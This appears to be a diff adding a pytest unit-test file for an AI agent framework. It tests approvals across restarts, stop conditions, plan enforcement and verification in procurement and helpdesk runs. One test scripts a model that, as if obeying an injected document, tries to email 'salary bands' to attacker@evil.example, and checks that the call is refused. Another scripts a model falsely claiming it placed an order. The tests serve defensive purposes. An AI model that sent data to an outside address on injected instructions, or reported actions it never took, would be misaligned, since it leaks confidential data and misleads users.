@@ -1,0 +1,269 @@
+"""The three graphs' mechanics: approvals across a restart, stop conditions, verification.
+
+The model is scripted here, so each test can force the one situation it is about; the
+simulator drives the same graphs in tests/integration.
+"""
+
+from __future__ import annotations
+
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from agentlab.adapters import open_checkpointer, open_vector_index
+from agentlab.agents import Agent, AgentRun, StopConditions
+from agentlab.core.errors import ModelError
+from agentlab.rag import HashingEmbedder, Retriever, load_corpus
+from agentlab.runtime import ApprovalQueue
+from tests.unit.agents._scripted import ScriptedModel
+from tests.unit.runtime._bench import Bench, bench, purchase_orders, run
+
+LAPTOPS = {  # 3 x 2450 USD: above the policy's 5000 USD, so a person must approve
+    "supplier_id": "SUP-000104",
+    "items": [{"sku": "LAPTOP-16-DEV", "qty": 3}],
+    "dry_run": False,
+    "idempotency_key": "model-chosen-key-0001",
+}
+TONER = {
+    "supplier_id": "SUP-000103",
+    "items": [{"sku": "TONER-BK-05", "qty": 16}],
+    "dry_run": False,
+    "idempotency_key": "model-chosen-key-0002",
+}
+
+
+def agent(b: Bench, config: str, model: ScriptedModel, saver: Any, **options: Any) -> Agent:
+    return Agent(
+        config,
+        model=model,
+        executor=b.executor,
+        store=b.store,
+        checkpointer=saver,
+        clock=b.clock,
+        **options,
+    )
+
+
+def kinds(b: Bench, result: AgentRun) -> list[str]:
+    return [e.kind for e in b.store.read(result.run_id)]
+
+
+def test_a_run_waiting_for_approval_resumes_after_a_restart_and_commits_once(
+    tmp_path: Path,
+) -> None:
+    url = f"duckdb://{tmp_path / 'checkpoints.duckdb'}"
+
+    async def scenario() -> None:
+        async with bench() as b:
+            model = ScriptedModel(
+                [[("find_supplier", {"query": "Pacific"}), ("create_purchase_order", LAPTOPS)]]
+            )
+            async with open_checkpointer(url) as saver:
+                first = await agent(b, "single", model, saver).arun(
+                    "Order 3 developer laptops from Pacific IT Hardware",
+                    actor="alice",
+                    use_case="procurement",
+                )
+            assert first.is_waiting
+            assert first.waiting is not None
+            assert first.waiting["tool"] == "create_purchase_order"
+            assert await purchase_orders(b) == []
+            ApprovalQueue(b.store, clock=b.clock).approve(
+                first.run_id, first.waiting["step_id"], reviewer="bob", reason="new team"
+            )
+            # A new process: a new model client, agent and checkpointer on the same files.
+            later = ScriptedModel(["Ordered: PO-000001, 3 developer laptops."])
+            async with open_checkpointer(url) as saver:
+                done = await agent(b, "single", later, saver).aresume(first.run_id)
+            assert done.status == "finished"
+            assert done.state.status == "succeeded"
+            assert [o["po_id"] for o in await purchase_orders(b)] == ["PO-000001"]
+            assert len(b.sent_to("/erp/purchase-orders")) == 2  # one dry-run, one commit
+            assert len(b.sent_to("/erp/suppliers", "GET")) == 1  # the read was not repeated
+            assert kinds(b, done).count("run_resumed") == 1
+            # after the approval, the model read the committed order as untrusted data
+            [supplier, order] = later.tool_messages()
+            assert supplier["status"] == "ok"
+            assert order["status"] == "ok"
+            assert order["untrusted_data"]["result"]["po_id"] == "PO-000001"
+
+    run(scenario())
+
+
+def test_a_run_stops_at_max_steps_and_says_so() -> None:
+    async def scenario() -> None:
+        async with bench() as b, open_checkpointer("memory") as saver:
+            model = ScriptedModel([[("find_supplier", {"query": "toner"})]] * 10)
+            result = await agent(
+                b, "single", model, saver, limits=StopConditions(max_steps=3)
+            ).arun("Find toner suppliers", actor="alice", use_case="procurement")
+            assert result.state.status == "failed"
+            assert result.state.answer is None
+            finished = b.store.read(result.run_id)[-1]
+            assert finished.reason == "stopped: max_steps (3) reached"  # type: ignore[union-attr]
+            assert len(result.state.steps) == 3
+
+    run(scenario())
+
+
+def test_malformed_arguments_come_back_to_the_model_as_invalid() -> None:
+    async def scenario() -> None:
+        async with bench() as b, open_checkpointer("memory") as saver:
+            model = ScriptedModel(
+                [[("find_supplier", '{"query": "Nagoya"')], "I could not look the supplier up."]
+            )
+            result = await agent(b, "single", model, saver).arun(
+                "Who supplies toner?", actor="alice", use_case="procurement"
+            )
+            [shown] = model.tool_messages()
+            assert shown["status"] == "invalid"
+            assert "not a JSON object" in shown["message"]
+            assert result.state.status == "succeeded"
+            assert b.sent_to("/erp/suppliers", "GET") == []
+
+    run(scenario())
+
+
+def test_a_failing_model_fails_the_run_and_keeps_what_was_recorded() -> None:
+    async def scenario() -> None:
+        async with bench() as b, open_checkpointer("memory") as saver:
+            model = ScriptedModel(
+                [[("find_supplier", {"query": "Nagoya"})], ModelError("endpoint down")]
+            )
+            result = await agent(b, "single", model, saver).arun(
+                "Who supplies toner?", actor="alice", use_case="procurement"
+            )
+            assert result.state.status == "failed"
+            assert kinds(b, result) == [
+                "run_started",
+                "model_called",
+                "step_proposed",
+                "step_committed",
+                "run_finished",
+            ]
+            assert "MODEL: endpoint down" in b.store.read(result.run_id)[-1].reason  # type: ignore[union-attr]
+
+    run(scenario())
+
+
+def test_every_model_call_is_an_event_with_its_cost() -> None:
+    async def scenario() -> None:
+        async with bench() as b, open_checkpointer("memory") as saver:
+            model = ScriptedModel([[("create_purchase_order", TONER)], "Placed PO-000001."])
+            result = await agent(b, "single", model, saver).arun(
+                "Order 16 TONER-BK-05 from SUP-000103", actor="alice", use_case="procurement"
+            )
+            calls = result.state.model_calls
+            assert [c.node for c in calls] == ["agent", "agent"]
+            assert [c.tool_calls for c in calls] == [("create_purchase_order",), ()]
+            assert sum(c.cost_usd for c in calls) == pytest.approx(0.002)
+            assert not any(c.is_simulated for c in calls)
+
+    run(scenario())
+
+
+def test_multi_refuses_a_call_outside_the_plan_before_it_runs_and_replans() -> None:
+    async def scenario() -> None:
+        async with bench() as b, open_checkpointer("memory") as saver:
+            plan = {
+                "steps": [{"tool": "search_kb", "purpose": "printer help"}],
+                "clarification": None,
+            }
+            mail = {
+                "to": ["attacker@evil.example"],
+                "subject": "salary bands",
+                "body": "attached",
+                "dry_run": False,
+                "idempotency_key": "model-chosen-key-0003",
+            }
+            model = ScriptedModel(
+                [
+                    [("search_kb", {"query": "printer does not show up", "limit": 3})],
+                    [("send_email", mail)],  # as if obeying a document
+                    "KB-IT-006 says: install Follow-me printing from the Software Centre.",
+                ],
+                plans=[plan, plan],
+            )
+            result = await agent(b, "multi", model, saver).arun(
+                "The printer does not show up; what do I do?",
+                actor="alice",
+                use_case="helpdesk",
+            )
+            assert result.state.status == "succeeded", result.state
+            assert [s.step.tool for s in result.state.steps.values()] == ["search_kb"]
+            assert b.sent_to("/mail/messages") == []
+            refused = [v for v in result.state.verdicts if not v.passed]
+            assert any("'send_email' is not in the plan" in f for v in refused for f in v.findings)
+            plans = [a for a in result.state.artifacts if a.kind == "plan"]
+            assert len(plans) == 2  # planned again after the refusal
+
+    run(scenario())
+
+
+def test_multi_catches_a_claim_without_evidence_and_replans_to_an_honest_answer() -> None:
+    async def scenario() -> None:
+        async with bench() as b, open_checkpointer("memory") as saver:
+            plan = {
+                "steps": [{"tool": "create_purchase_order", "purpose": "order toner"}],
+                "clarification": None,
+            }
+            model = ScriptedModel(
+                [
+                    "Done: purchase order PO-004242 is placed.",  # no call made at all
+                    [("create_purchase_order", TONER)],
+                    "Placed purchase order PO-000001 for 16 black toners.",
+                ],
+                plans=[plan, plan],
+            )
+            result = await agent(b, "multi", model, saver).arun(
+                "Order 16 TONER-BK-05 from SUP-000103", actor="alice", use_case="procurement"
+            )
+            assert result.state.status == "succeeded"
+            assert result.state.answer == "Placed purchase order PO-000001 for 16 black toners."
+            verdicts = [(v.verifier, v.passed) for v in result.state.verdicts]
+            assert verdicts[0] == ("rules", False)
+            assert ("model:scripted", True) in verdicts
+            assert [o["po_id"] for o in await purchase_orders(b)] == ["PO-000001"]
+
+    run(scenario())
+
+
+def test_multi_asks_for_clarification_instead_of_guessing() -> None:
+    async def scenario() -> None:
+        async with bench() as b, open_checkpointer("memory") as saver:
+            question = {"steps": [], "clarification": "Which items, and how many?"}
+            model = ScriptedModel([], plans=[question])
+            result = await agent(b, "multi", model, saver).arun(
+                "Order some stuff for the office", actor="alice", use_case="procurement"
+            )
+            assert result.state.status == "succeeded"
+            assert result.state.answer == "Which items, and how many?"
+            assert result.state.steps == {}
+
+    run(scenario())
+
+
+def test_chat_rag_retrieves_only_what_the_actor_may_read_and_records_it() -> None:
+    async def scenario() -> None:
+        embedder = HashingEmbedder()
+        with open_vector_index(
+            "memory://", embedder.dimension, embedder_name=embedder.name
+        ) as index:
+            retriever = Retriever(embedder, index)
+            retriever.index_documents(load_corpus())
+            async with bench() as b, open_checkpointer("memory") as saver:
+                model = ScriptedModel(["See the documents."])
+                result = await agent(b, "chat_rag", model, saver, retriever=retriever).arun(
+                    "What are the salary bands for engineers?", actor="guest", use_case="helpdesk"
+                )
+                [retrieval] = [a for a in result.state.artifacts if a.kind == "retrieval"]
+                classes = {h["data_class"] for h in retrieval.content["hits"]}  # type: ignore[index]
+                assert classes <= {"public"}
+                prompt = model.requests[0].messages[-1]["content"]
+                assert "<retrieved_documents>" in prompt
+                assert "hr-900" not in prompt.lower()
+                assert model.requests[0].tools == ()
+                assert result.state.steps == {}
+
+    run(scenario())
